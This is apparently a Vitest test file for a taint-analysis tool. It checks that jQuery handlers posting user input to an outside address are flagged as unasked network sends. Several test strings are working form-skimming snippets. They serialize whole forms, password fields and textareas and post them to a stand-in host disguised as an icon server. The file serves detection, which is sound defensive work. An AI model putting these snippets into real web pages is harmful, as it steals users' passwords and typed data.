import { describe, expect, it } from 'vitest';
import { follow } from '../sample.js';

const HOST = 'https://icons.acme.dev/don.php';
const sentUnasked = (code: string): string[] =>
  follow(`const $ = require('jquery'); $(function () { ${code} });`).observations.flatMap(
    ({ unasked, sink, taints }) =>
      unasked && sink.startsWith('net') ? taints.map(({ source, detail }) => `${source} ${detail}`) : [],
  );

describe('handlers that jQuery delegates', () => {
  it.each([
    `$(document).on('submit', 'form', function () { $.post('${HOST}', $(this).serialize()); });`,
    `$(document).on('change', 'input[type=password], select', { a: 1 }, (e) => $.post('${HOST}', { v: e.target.value }));`,
    `$('form').on('submit', function () { $.ajax({ url: '${HOST}', data: { v: $(this).find('input').val() } }); });`,
    `$(document.body).on('input.x', 'textarea', function () { $.post('${HOST}', { v: this.value }); });`,
  ])('run by themselves, with what is typed anywhere: %s', (code) => {
    expect(sentUnasked(code)).toContain('input.form jQuery().on');
  });

  it.each([
    `$('.acme-search').on('input', 'input', function () { $.post('${HOST}', { v: 1 }); });`,
    `$(document).on('input', '.acme-search input', function () { $.post('${HOST}', { v: $(this).val() }); });`,
    `$('#acme').on('change', function () { $.post('${HOST}', { v: $(this).val() }); });`,
  ])('hear what is their own: %s', (code) => {
    expect(sentUnasked(code)).not.toContain('input.form jQuery().on');
  });
});
